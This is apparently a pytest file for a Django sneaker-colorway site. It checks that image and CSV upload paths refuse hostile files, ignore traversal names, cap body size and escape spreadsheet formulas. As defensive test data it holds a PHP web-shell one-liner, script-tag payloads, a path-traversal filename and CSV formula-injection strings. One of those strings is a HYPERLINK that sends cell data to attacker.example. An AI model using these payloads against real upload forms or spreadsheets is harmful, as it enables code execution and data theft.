"""Every upload path against the hostile-file corpus: refused with a message, nothing stored.

The paths: each image field in the admin (author photo, post hero image, colorway
images, collaborator logo), the Markdown editor's image upload, and the colorway CSV
import. A good file through the same form is the control: it is accepted, so a refusal
below is the file's doing, not a broken form.
"""

import csv
import io
import zipfile
from dataclasses import dataclass
from http import HTTPStatus
from pathlib import Path

import lxml.html
import pytest
import tablib
from django.apps import apps
from django.conf import settings as django_settings
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.urls import reverse
from PIL import Image

from colorways.models import Colorway
from colorways.resources import ColorwayResource
from tests.factories import (
    AuthorFactory,
    CollaboratorFactory,
    ColorwayFactory,
    PostFactory,
)
from tests.images import (
    HOSTILE_UPLOADS,
    SIXTY_MB,
    TRAVERSAL_NAMES,
    image_bytes,
    jpeg_carrying_html,
    sixty_megabytes,
    upload,
)
from tests.security.fuzzing import row_counts

pytestmark = pytest.mark.django_db
SAFE_EXTENSIONS = {".jpg", ".png", ".webp"}


def stored_files_now() -> list[Path]:
    """Every file under MEDIA_ROOT."""
    root = Path(django_settings.MEDIA_ROOT)
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def browser_form_data(response, form_id: str) -> dict[str, list[str]]:
    """What a browser would submit from the page's form, files left out."""
    form = lxml.html.fromstring(response.content).get_element_by_id(form_id)
    data: dict[str, list[str]] = {}
    for name, value in form.form_values():
        data.setdefault(name, []).append(value)
    return data


@dataclass
class AdminImageForm:
    """An admin change page with an image field, and how to put a file into it."""

    model: str
    field: str
    make: object
    extra: object = None

    def url(self, obj) -> str:
        return reverse(f"admin:{self.model.replace('.', '_')}_change", args=[obj.pk])

    def post_data(self, page, obj, file) -> dict:
        data = browser_form_data(page, f"{self.model.split('.')[1]}_form")
        data.update(self.extra(obj) if self.extra else {})
        data[self.field] = file
        return data

    def stored_value(self, obj):
        if self.field.startswith("images-"):
            return list(obj.images.values_list("image", flat=True))
        obj.refresh_from_db()
        return getattr(obj, self.field).name


def new_colorway_image(colorway) -> dict:
    return {
        "images-TOTAL_FORMS": ["1"],
        "images-0-order": ["0"],
        "images-0-alt": ["The shoe from the side"],
        "images-0-colorway": [str(colorway.pk)],
        "images-0-id": [""],
    }


ADMIN_IMAGE_FORMS = {
    "author photo": AdminImageForm("blog.author", "photo", AuthorFactory),
    "post hero image": AdminImageForm(
        "blog.post", "hero_image", PostFactory, extra=lambda post: {"hero_alt": ["A hero"]}
    ),
    "colorway image": AdminImageForm(
        "colorways.colorway", "images-0-image", ColorwayFactory, extra=new_colorway_image
    ),
    "collaborator logo": AdminImageForm("colorways.collaborator", "logo", CollaboratorFactory),
}


def test_the_corpus_covers_every_image_and_file_field_of_the_project():
    fields = {
        f"{model._meta.label_lower}.{field.name}"
        for model in apps.get_models()
        if Path(model._meta.app_config.path).is_relative_to(django_settings.BASE_DIR)
        and "site-packages" not in model._meta.app_config.path
        for field in model._meta.get_fields()
        if field.get_internal_type() in {"FileField", "ImageField"}
    }
    assert fields == {
        "blog.author.photo",
        "blog.post.hero_image",
        "colorways.colorwayimage.image",
        "colorways.collaborator.logo",
    }


def admin_post(staff_client, target: AdminImageForm, file):
    obj = target.make()
    page = staff_client.get(target.url(obj))
    assert page.status_code == HTTPStatus.OK
    before = (row_counts(), stored_files_now(), target.stored_value(obj))
    response = staff_client.post(target.url(obj), target.post_data(page, obj, file))
    return obj, before, response


@pytest.mark.parametrize("target", ADMIN_IMAGE_FORMS)
def test_admin_image_field_accepts_a_good_image_under_a_server_chosen_name(
    staff_client, settings, target
):
    form = ADMIN_IMAGE_FORMS[target]
    obj, (_, files_before, _), response = admin_post(
        staff_client, form, upload("../../evil.php.html", image_bytes("JPEG"), "text/html")
    )
    assert response.status_code == HTTPStatus.FOUND, response.context["errors"]
    value = form.stored_value(obj)
    (name,) = value if isinstance(value, list) else [value]
    original = settings.MEDIA_ROOT / name
    new = set(stored_files_now()) - set(files_before)
    assert original in new  # renditions (WebP) may be made alongside it
    assert original.suffix == ".jpg" and "evil" not in original.name
    for path in new:
        assert path.resolve().is_relative_to(settings.MEDIA_ROOT.resolve())
        assert path.suffix in SAFE_EXTENSIONS


@pytest.mark.parametrize("kind", HOSTILE_UPLOADS)
@pytest.mark.parametrize("target", ADMIN_IMAGE_FORMS)
def test_admin_image_field_refuses_the_hostile_corpus_and_stores_nothing(
    staff_client, target, kind
):
    form = ADMIN_IMAGE_FORMS[target]
    name, content, content_type = HOSTILE_UPLOADS[kind]
    obj, (rows, files, value), response = admin_post(
        staff_client, form, upload(name, content, content_type)
    )
    assert response.status_code == HTTPStatus.OK  # the form is shown again
    assert response.context["errors"], "the form should say what is wrong"
    assert row_counts() == rows
    assert stored_files_now() == files
    assert form.stored_value(obj) == value


@pytest.mark.parametrize("kind", HOSTILE_UPLOADS)
def test_editor_upload_refuses_the_hostile_corpus_and_stores_nothing(staff_client, kind):
    name, content, content_type = HOSTILE_UPLOADS[kind]
    rows = row_counts()
    response = staff_client.post(
        "/markdownx/upload/", {"image": upload(name, content, content_type)}
    )
    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert response.json()["image"]
    assert row_counts() == rows
    assert stored_files_now() == []


@pytest.mark.parametrize("name", TRAVERSAL_NAMES)
def test_editor_upload_ignores_the_client_file_name(staff_client, settings, name):
    response = staff_client.post("/markdownx/upload/", {"image": upload(name, image_bytes("PNG"))})
    assert response.status_code == HTTPStatus.OK
    (stored,) = stored_files_now()
    assert stored.parent == settings.MEDIA_ROOT / "editor"
    assert stored.suffix == ".png" and len(stored.stem) == 32


@pytest.mark.parametrize("target", [*ADMIN_IMAGE_FORMS, "editor"])
def test_an_image_carrying_html_is_stored_as_a_fresh_encoding_without_it(staff_client, target):
    file = upload("poly.jpg", jpeg_carrying_html(), "image/jpeg")
    if target == "editor":
        response = staff_client.post("/markdownx/upload/", {"image": file})
        assert response.status_code == HTTPStatus.OK
    else:
        _, _, response = admin_post(staff_client, ADMIN_IMAGE_FORMS[target], file)
        assert response.status_code == HTTPStatus.FOUND
    (stored,) = [p for p in stored_files_now() if p.suffix == ".jpg"]
    assert b"<script" not in stored.read_bytes()
    with Image.open(stored) as image:
        assert image.format == "JPEG"


# The 60 MB file: refused by the size cap before anything reads the body.

UPLOAD_URLS = {
    "author photo": lambda: reverse("admin:blog_author_add"),
    "post hero image": lambda: reverse("admin:blog_post_add"),
    "colorway image": lambda: reverse("admin:colorways_colorway_add"),
    "collaborator logo": lambda: reverse("admin:colorways_collaborator_add"),
    "editor": lambda: "/markdownx/upload/",
    "csv import": lambda: reverse("admin:colorways_colorway_import"),
}
UPLOAD_FIELDS = {
    "author photo": "photo",
    "post hero image": "hero_image",
    "colorway image": "images-0-image",
    "collaborator logo": "logo",
    "editor": "image",
    "csv import": "import_file",
}


@pytest.fixture(scope="module")
def sixty_mb():
    return sixty_megabytes()


@pytest.mark.parametrize("target", UPLOAD_URLS)
def test_a_60_mb_upload_is_refused_with_413_on_every_path(staff_client, sixty_mb, target):
    rows = row_counts()
    response = staff_client.post(
        UPLOAD_URLS[target](), {UPLOAD_FIELDS[target]: upload("big.png", sixty_mb)}
    )
    assert response.status_code == HTTPStatus.REQUEST_ENTITY_TOO_LARGE
    assert "too large" in response.text
    assert row_counts() == rows
    assert stored_files_now() == []


class UnreadableBody:
    """A request body that fails the test if anything reads it."""

    def read(self, *args):
        raise AssertionError("the application read the body of an oversized request")

    readline = read


@pytest.mark.parametrize("target", UPLOAD_URLS)
def test_the_60_mb_body_is_refused_before_the_application_reads_it(wsgi_app, target):
    environ = RequestFactory()._base_environ(
        REQUEST_METHOD="POST",
        PATH_INFO=UPLOAD_URLS[target](),
        CONTENT_TYPE="multipart/form-data; boundary=xyz",
        CONTENT_LENGTH=str(SIXTY_MB),
        **{"wsgi.input": UnreadableBody(), "wsgi.url_scheme": "https", "SERVER_PORT": "443"},
    )
    statuses = []
    body = b"".join(wsgi_app(environ, lambda status, headers: statuses.append(status)))
    assert [status.split()[0] for status in statuses] == ["413"]
    assert b"too large" in body


def test_the_size_cap_sits_below_what_django_would_buffer(settings):
    """The cap applies to the whole body; Django's own limits then bound what a form
    holds in memory, and the image validator refuses files over 10 MB with a message."""
    from imaging.validation import MAX_BYTES

    assert MAX_BYTES < settings.MAX_REQUEST_BYTES < SIXTY_MB
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= settings.MAX_REQUEST_BYTES
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE <= settings.MAX_REQUEST_BYTES


# The colorway CSV import.

CSV_HEADER = b"slug,name,nickname,style_code,collaborator,pack,release_date,release_precision\n"
GOOD_ROW = b"triple-white,White/White,Triple White,1201A019-100,,,,\n"


def spreadsheet_bytes() -> bytes:
    """A zip archive, as an .xlsx workbook is."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


HOSTILE_CSV = {
    "png image": ("colorways.csv", image_bytes("PNG"), "binary"),
    "excel workbook": ("colorways.xlsx", spreadsheet_bytes(), "binary"),
    "binary with nul bytes": ("colorways.csv", CSV_HEADER + b"a\x00b,c\n", "binary"),
    "latin-1 text": (
        "colorways.csv",
        CSV_HEADER + "café,Crème,,,,,,\n".encode("latin-1"),
        "not UTF-8",
    ),
    "utf-16 text": (
        "colorways.csv",
        (CSV_HEADER + GOOD_ROW).decode().encode("utf-16"),
        "UTF-16",
    ),
    "too large": ("colorways.csv", CSV_HEADER + GOOD_ROW * 60_000, "2 MB"),
    "html page": ("colorways.csv", b"<!doctype html><script>alert(1)</script>", "No valid data"),
    "php script": ("colorways.csv", b"<?php system($_GET['c']); ?>", "No valid data"),
    "empty file": ("colorways.csv", b"", "empty"),
}
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "\t=1+1",
]


def import_csv(staff_client, content: bytes, name: str = "colorways.csv"):
    file = SimpleUploadedFile(name, content, "text/csv")
    return staff_client.post(
        reverse("admin:colorways_colorway_import"),
        {"format": "0", "resource": "0", "import_file": file},
    )


def test_a_good_csv_passes_the_dry_run(staff_client):
    response = import_csv(staff_client, CSV_HEADER + GOOD_ROW)
    assert response.status_code == HTTPStatus.OK
    assert not response.context["result"].has_errors()
    assert not response.context["result"].has_validation_errors()


def reported_errors(response) -> str:
    """Every error the import page shows: on the file field, on the file, on its rows."""
    errors = list(response.context["form"].errors.get("import_file", []))
    result = response.context.get("result")
    if result is not None:
        errors += [str(error.error) for error in result.base_errors]
        errors += [str(error.error) for _, row in result.row_errors() for error in row]
        errors += [
            str(message) for row in result.invalid_rows for message in row.error_dict.values()
        ]
    return " ".join(errors)


@pytest.mark.parametrize("kind", HOSTILE_CSV)
def test_csv_import_refuses_a_hostile_file_with_a_message_and_stores_nothing(staff_client, kind):
    name, content, message = HOSTILE_CSV[kind]
    rows = row_counts()
    response = import_csv(staff_client, content, name)
    assert response.status_code == HTTPStatus.OK  # the import form is shown again
    assert message.lower() in reported_errors(response).lower()
    assert 'name="import_file_name"' not in response.text  # nothing to confirm
    assert row_counts() == rows
    assert stored_files_now() == []


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", ["name", "nickname", "pack"])
def test_csv_import_refuses_formula_cells(staff_client, column, formula):
    cells = {"slug": "formula", "name": "White/White", "nickname": "", "pack": "", column: formula}
    text = io.StringIO()
    writer = csv.DictWriter(text, fieldnames=list(cells))
    writer.writeheader()
    writer.writerow(cells)
    content = text.getvalue().encode()
    rows = row_counts()
    response = import_csv(staff_client, content)
    result = response.context["result"]
    (invalid,) = result.invalid_rows
    assert column in invalid.error_dict
    assert "formula" in " ".join(invalid.error_dict[column])
    assert 'name="import_file_name"' not in response.text
    assert row_counts() == rows


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_escapes_formulas_and_a_round_trip_keeps_the_text(staff_client, formula):
    colorway = ColorwayFactory(slug="formula", nickname=formula, pack=formula)
    response = staff_client.post(
        reverse("admin:colorways_colorway_export"),
        {
            "resource": "0",
            "format": "0",
            "colorwayresource_slug": "on",
            "colorwayresource_nickname": "on",
            "colorwayresource_pack": "on",
        },
    )
    assert response.status_code == HTTPStatus.OK
    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    assert row["nickname"] == "'" + formula and row["pack"] == "'" + formula
    Colorway.objects.filter(pk=colorway.pk).update(nickname="", pack="")
    result = ColorwayResource().import_data(
        tablib.Dataset().load(response.content.decode(), format="csv"), dry_run=False
    )
    assert not result.has_errors() and not result.has_validation_errors()
    colorway.refresh_from_db()
    assert (colorway.nickname, colorway.pack) == (formula, formula)


# Serving media: never with a content type the browser would run.


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("page.html", b"<script>alert(1)</script>", None),
        ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", None),
        ("shell.php", b"<?php echo 1; ?>", None),
        ("photo.png", image_bytes("PNG"), "image/png"),
        ("photo.jpg", image_bytes("JPEG"), "image/jpeg"),
        ("photo.webp", image_bytes("WEBP"), "image/webp"),
    ],
)
def test_development_media_serving_never_sends_a_runnable_type(
    settings, name, content, content_type
):
    from config.media import serve_media

    (settings.MEDIA_ROOT / "editor").mkdir(parents=True)
    (settings.MEDIA_ROOT / "editor" / name).write_bytes(content)
    response = serve_media(RequestFactory().get(f"/media/editor/{name}"), f"editor/{name}")
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"] == (content_type or "application/octet-stream")
    if content_type is None:
        assert response["Content-Disposition"] == "attachment"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "default-src 'none'" in response["Content-Security-Policy"]


def test_with_redis_the_checked_csv_waits_in_the_cache_between_dry_run_and_confirm(
    staff_client, settings, redis_cache
):
    settings.IMPORT_EXPORT_TMP_STORAGE_CLASS = "import_export.tmp_storages.CacheStorage"
    response = import_csv(staff_client, CSV_HEADER + GOOD_ROW)
    confirm = response.context["confirm_form"]
    assert cache.get("django-import-export-" + confirm.initial["import_file_name"])
    response = staff_client.post(
        reverse("admin:colorways_colorway_process_import"), {**confirm.initial, "resource": "0"}
    )
    assert response.status_code == HTTPStatus.FOUND
    assert Colorway.objects.get(slug="triple-white").style_code == "1201A019-100"
